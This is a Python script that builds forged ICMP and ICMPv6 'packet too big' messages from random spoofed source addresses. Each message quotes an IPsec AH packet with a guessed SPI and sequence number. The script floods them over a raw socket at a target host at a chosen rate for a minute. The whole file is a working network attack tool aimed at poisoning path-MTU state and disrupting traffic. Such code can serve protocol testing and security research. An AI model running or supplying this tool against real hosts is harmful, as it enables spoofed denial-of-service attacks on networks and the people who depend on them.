#!/usr/bin/env python3
"""Forged messages that a packet with AH was too big, each from another address, straight onto a wire.

too-big.py INTERFACE MAC TO DESTINATION RATE

To the host TO, to which MAC belongs: a packet of its to DESTINATION did not fit; SPI and number are guessed. RATE a second,
until ended. Prints "sending" before the first.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

interface, mac, rate = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[5])
to, destination = map(ipaddress.ip_address, sys.argv[3:5])
PACKETS, PAUSE, SECONDS = 8192, 0.005, 60
AH, ICMP, ICMP6, MTU, LENGTH = 51, 1, 58, 1200, 1400


def checksum(data):
    words = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while words >> 16:
        words = (words & 0xFFFF) + (words >> 16)
    return ~words & 0xFFFF


def header4(source, target, protocol, length):
    head = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0x4000, 64, protocol, 0) + source + target
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def header6(source, target, protocol, length):
    return struct.pack("!IHBB", 6 << 28, length - 40, protocol, 64) + source + target


def quoted_ah():
    return struct.pack("!BBHII", 17, 5, 0, random.randrange(256, 1 << 32), random.randrange(1, 1 << 16)) + bytes(24)


def forged4():
    source = struct.pack("!BI", random.randrange(1, 120), random.randrange(1, 1 << 32))[:4]
    body = struct.pack("!BBHHH", 3, 4, 0, 0, MTU) + header4(to.packed, destination.packed, AH, LENGTH) + quoted_ah()
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return header4(source, to.packed, ICMP, 20 + len(body)) + body


def forged6():
    source = bytes([0x20, 0x01]) + random.randbytes(14)
    body = struct.pack("!BBHI", 2, 0, 0, 1280) + header6(to.packed, destination.packed, AH, LENGTH) + quoted_ah()
    pseudo = source + to.packed + struct.pack("!II", len(body), ICMP6)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return header6(source, to.packed, ICMP6, 40 + len(body)) + body


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
ethernet = mac + wire.getsockname()[4] + (b"\x08\x00" if to.version == 4 else b"\x86\xdd")
frames = [ethernet + (forged4() if to.version == 4 else forged6()) for _ in range(PACKETS)]
print("sending", flush=True)
start, sent = time.monotonic(), 0
while (passed := time.monotonic() - start) < SECONDS:
    due = int(passed * rate)
    for number in range(sent, due):
        wire.send(frames[number % PACKETS])
    sent = due
    time.sleep(PAUSE)
